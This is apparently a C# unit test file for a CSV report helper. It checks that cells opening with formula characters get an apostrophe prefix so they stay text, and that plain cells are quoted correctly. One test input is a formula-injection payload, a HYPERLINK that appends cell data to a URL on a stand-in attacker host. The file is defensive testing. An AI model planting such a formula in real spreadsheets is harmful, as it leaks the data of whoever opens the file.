using FollowUp.Reports;

namespace FollowUp.Tests.Reports;

/// <summary>Report cells a spreadsheet would run as formulas are written as text.</summary>
[Trait("Category", "Unit")]
public sealed class CsvCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&C3,\"Open\")", "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&C3,\"\"Open\"\")\"")]
    [InlineData("+1 555", "'+1 555")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\rcmd", "\"'\rcmd\"")]
    public void A_cell_that_starts_a_formula_is_prefixed_so_it_stays_text(string value, string expected) =>
        Assert.Equal(expected, CsvCell.Of(value));

    [Theory]
    [InlineData("web form", "web form")]
    [InlineData("Home Show, Boston", "\"Home Show, Boston\"")]
    [InlineData("the \"big\" show", "\"the \"\"big\"\" show\"")]
    [InlineData("", "")]
    [InlineData("a=b", "a=b")]
    public void Plain_cells_are_kept_and_quoted_only_when_they_must_be(string value, string expected) =>
        Assert.Equal(expected, CsvCell.Of(value));
}
